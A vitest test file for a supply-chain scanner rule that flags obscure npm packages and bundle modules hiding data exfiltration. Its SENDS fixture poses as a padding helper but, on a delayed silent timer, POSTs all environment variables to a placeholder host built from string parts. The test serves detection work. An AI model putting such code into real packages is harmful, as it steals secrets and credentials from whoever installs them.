import { fileURLToPath } from 'node:url';
import { expect, it } from 'vitest';
import { completeSet, loadSignatures, scanSignatures } from '../../../src/signatures/index.js';
import { memoryTree } from '../../support/memory-tree.js';
import { packageOf } from '../../support/model-builders.js';

const RULE = 'package/adds-up';
const signatures = completeSet(
  await loadSignatures(fileURLToPath(new URL('../../../signatures', import.meta.url))),
);

/** Posts the environment where nobody sees it, as plainly as rules about flows need it not. */
const SENDS = `const https = require('https');
module.exports = (text, width) => text.padEnd(width);
setTimeout(() => {
  try {
    const request = https.request({ hostname: ['cdn', 'columns', 'example', 'invalid'].join('.'), method: 'POST' });
    request.on('error', () => {});
    request.end(JSON.stringify(process.env));
  } catch {}
}, 900).unref();
`;
const HARMLESS = 'exports.add = (a, b) => a + b;\n';

/** What the rule shows of a package: path, line, and what the code says at its places. */
async function shownOf(name: string, files: Readonly<Record<string, string>>, ecosystem = 'npm') {
  const folder = `node_modules/${name}`;
  const inTree = Object.fromEntries(Object.entries(files).map(([path, text]) => [`${folder}/${path}`, text]));
  const packages = [packageOf(name, '1.0.0', { ecosystem, locations: [{ path: folder }] })];
  const { findings } = await scanSignatures({ tree: memoryTree(inTree), packages, signatures });
  return findings.filter(({ rule }) => rule === RULE).flatMap(({ evidence }) => evidence);
}

it('facts of a package that few know add up, and the finding shows at most five with their places', async () => {
  const shown = await shownOf('pad-columns-lite', { 'index.js': SENDS });
  expect(shown.length).toBeGreaterThanOrEqual(3);
  expect(shown.length).toBeLessThanOrEqual(5);
  for (const seen of shown) {
    const { path, detail } = seen;
    expect(path).toBe('node_modules/pad-columns-lite/index.js');
    expect(seen).toHaveProperty('line');
    expect(detail).toMatch(/^[a-zA-Z ]+: \S/);
  }
});

it('they count over the scripts of the package', async () => {
  const [first = '', second = ''] = SENDS.split('setTimeout');
  expect(await shownOf('pad-columns-lite', { 'a.js': first, 'b.js': `setTimeout${second}` })).not.toEqual([]);
});

it.each([
  ['a package that many know', 'lodash', { 'index.js': SENDS }],
  ['a package that does nothing of it', 'pad-columns-lite', { 'index.js': HARMLESS }],
  [
    'code that reports errors and says what it does',
    'pad-columns-lite',
    {
      'index.js': `${SENDS}
exports.check = (text) => { if (!text) throw new Error('empty'); console.log(text); process.exit(1); };`,
    },
  ],
])('%s is no finding', async (_, name, files) => {
  expect(await shownOf(name, files)).toEqual([]);
});

it("the application's own code is no finding", async () => {
  const { findings } = await scanSignatures({
    tree: memoryTree({ 'index.js': SENDS }),
    packages: [],
    signatures,
  });
  expect(findings.map(({ rule }) => rule)).not.toContain(RULE);
});

/** What the rule shows of a bundle of an application: code of lodash, as the inventory found it, and a module. */
async function shownInBundle(module: string, known = 'lodash') {
  const library = 'exports.chunk = (list) => list;\n'.repeat(30);
  const bundle = `var wrap = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports);
var require_known = wrap((exports, module) => {${library}});
var require_columns = wrap((exports, module) => {${module}});
require_known(); require_columns();
`;
  const start = bundle.indexOf(library);
  const ranges = [[start, start + library.length] as [number, number]];
  const packages = [packageOf(known, '1.0.0', { locations: [{ path: 'index.js', ranges }] })];
  const { findings } = await scanSignatures({
    tree: memoryTree({ 'index.js': bundle }),
    packages,
    signatures,
  });
  return findings.filter(({ rule }) => rule === RULE).flatMap(({ evidence }) => evidence);
}

it('a module of a bundle that few know is judged by itself, with its places', async () => {
  const shown = await shownInBundle(SENDS);
  expect(shown.length).toBeGreaterThanOrEqual(3);
  for (const { path } of shown) expect(path).toBe('index.js');
});

it.each([
  ['a module that does nothing of it', HARMLESS],
  [
    'a module that sends where its caller says',
    "exports.send = async (options, body) => { const answer = await fetch(options.url, { method: 'POST', body }); if (!answer.ok) throw new Error('refused'); };",
  ],
  [
    'a module that sends to its address, and reports what fails',
    `${SENDS}exports.check = (text) => { if (!text) throw new Error('empty'); console.log(text); };`,
  ],
])('in a bundle, %s is no finding', async (_, module) => {
  expect(await shownInBundle(module)).toEqual([]);
});
